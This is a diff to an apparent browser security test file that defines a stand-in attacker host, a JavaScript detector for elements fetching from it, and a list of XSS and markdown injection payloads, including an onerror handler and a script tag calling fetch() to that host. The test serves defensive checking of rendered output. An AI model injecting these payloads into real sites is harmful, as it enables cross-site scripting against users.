@@ -7,7 +7,15 @@ from pathlib import Path
 import pandas as pd
 
 from lyg.contracts import TABLES, Table
-from tests.browser import EVIL
+
+EVIL = "evil.invalid"  # the host the payloads would fetch from
+# in a browser: elements that would fetch from, or link to, that host (the app's own links may carry a payload as a
+# filter value in their query string: that stays on this server)
+FOUND = f"""() => Array.from(document.querySelectorAll('img, a, script, iframe, image, source'))
+    .map(e => e.getAttribute('src') || e.getAttribute('href') || e.getAttribute('xlink:href') || '')
+    .map(u => {{ try {{ return new URL(u, location.href); }} catch (err) {{ return null; }} }})
+    .filter(u => u && (u.hostname.includes('{EVIL}') || u.protocol === 'javascript:'))
+    .map(u => u.href)"""
 
 PAYLOADS = (f"![x](http://{EVIL}/img.png)", f"<img src=http://{EVIL}/tag.gif onerror=alert(1)>", f"[链接](http://{EVIL}/link)",
             ":red[红字] **粗体** # 标题", f"<a href='http://{EVIL}/a'>点此</a><script>fetch('http://{EVIL}/js')</script>",
